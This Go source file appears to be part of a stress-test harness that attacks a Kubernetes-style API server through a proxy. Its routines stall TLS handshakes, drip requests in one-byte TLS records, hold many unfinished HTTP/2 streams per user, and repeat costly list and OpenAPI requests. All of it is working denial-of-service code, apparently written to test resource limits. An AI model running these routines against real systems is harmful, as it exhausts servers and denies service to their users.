package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// readLists reads what takes the most to write: long lists, the description of the API, and lists in pieces.
func readLists(ctx context.Context, a *attacker) {
	paths := []string{
		configMaps,
		"/openapi/v2",
		configMaps + "?limit=1",
		"/apis",
		"/openapi/v3",
		configMaps + "?limit=400",
	}
	askAgain("", func(a *attacker, _ int) string {
		return paths[a.requests.Load()%int64(len(paths))]
	})(ctx, a)
}

// hellos gives up TLS handshakes: after the hello, byte by byte within it, and after what is none.
func hellos(ctx context.Context, a *attacker) {
	const bytewisePause = 100 * time.Millisecond
	hello := a.hello(ctx)
	a.each(ctx, a.Connections*100, func(worker int) error {
		conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", a.Address)
		if err != nil {
			return err
		}
		defer conn.Close() //nolint:errcheck // it is given up
		context.AfterFunc(ctx, func() { _ = conn.Close() })
		a.connections.Add(1)
		switch {
		case worker < a.Connections:
			_, _ = conn.Write(hello)
			_, _ = conn.Read(make([]byte, 1))
		case worker%2 == 0:
			_, _ = conn.Write(bytes.Repeat([]byte{0x16, 3, 1, 0, 1, 1}, 1000)) // records of one byte, of a message of 64 KiB
			_, _ = io.Copy(io.Discard, conn)
		default:
			for i := range hello {
				if _, err := conn.Write(hello[i : i+1]); err != nil || !sleep(ctx, bytewisePause) {
					break
				}
			}
		}
		a.closed.Add(1)
		return nil
	})
}

// records sends requests in TLS records of one byte.
func records(ctx context.Context, a *attacker) {
	request := "GET /version HTTP/1.1\r\nHost: proxy\r\nA: " + strings.Repeat("a", 4000) + "\r\n\r\n"
	a.onHTTP1(ctx, 10, func(conn net.Conn, _ int) error {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		for ctx.Err() == nil {
			a.requests.Add(1)
			for i := range request {
				if _, err := io.WriteString(conn, request[i:i+1]); err != nil {
					return err
				}
			}
		}
		return nil
	})
}

// manyUsers has a hundred users, each with a tenth of what one may have: unread lists, unread refusals, bodies on their
// way, and watches.
func manyUsers(ctx context.Context, a *attacker) {
	const watches, bodiesOnTheirWay = 30, 20
	half := bytes.Repeat([]byte(" "), 16_000)
	users := a.others()
	a.each(ctx, a.Connections*100, func(worker int) error {
		f, err := users[worker%len(users)].open(ctx, windowOfNothing())
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // it is given up
		for range watches {
			if _, err := f.request("GET", allObjects, nil); err != nil {
				return err
			}
		}
		for range bodiesOnTheirWay {
			stream, err := f.begin("POST", configMaps, field{"content-type", "application/json"})
			if err != nil {
				return err
			}
			f.write(func() error { return f.framer.WriteData(stream, false, half) })
		}
		for range attackStreams - watches - bodiesOnTheirWay {
			if _, err := f.request("GET", configMaps, nil); err != nil {
				return err
			}
		}
		f.hold(ctx)
		return nil
	})
}

// others are the attacker as each of its many users.
func (a *attacker) others() []*attacker {
	var others []*attacker
	for _, pair := range a.Users {
		user, err := tls.X509KeyPair(pair[0], pair[1])
		if err != nil {
			a.failed.Add(1)
			return nil
		}
		others = append(others, a.as(&user))
	}
	return others
}

// mixture does several things at once, with credentials and without: it fills the share of one user and that of clients
// without a user.
func mixture(ctx context.Context, a *attacker) {
	stranger := a.as(nil)
	var group sync.WaitGroup
	for _, one := range []func(context.Context, *attacker){
		watchedBurst, unread, bodies, slowLists, longPaths(allObjects + "&pad="),
	} {
		group.Go(func() { one(ctx, a) })
	}
	for _, one := range []func(context.Context, *attacker){trailers, begun, tokens, unfinished} {
		group.Go(func() { one(ctx, stranger) })
	}
	group.Wait()
}

// hello is the first message of a TLS handshake.
func (a *attacker) hello(ctx context.Context) []byte {
	ours, theirs := net.Pipe()
	defer theirs.Close() //nolint:errcheck // of a pipe
	go func() {
		config := a.tls.Clone()
		config.NextProtos = []string{"h2"}
		_ = tls.Client(ours, config).HandshakeContext(ctx) // it ends with the pipe
	}()
	content := make([]byte, 16<<10)
	n, _ := theirs.Read(content)
	return content[:n]
}
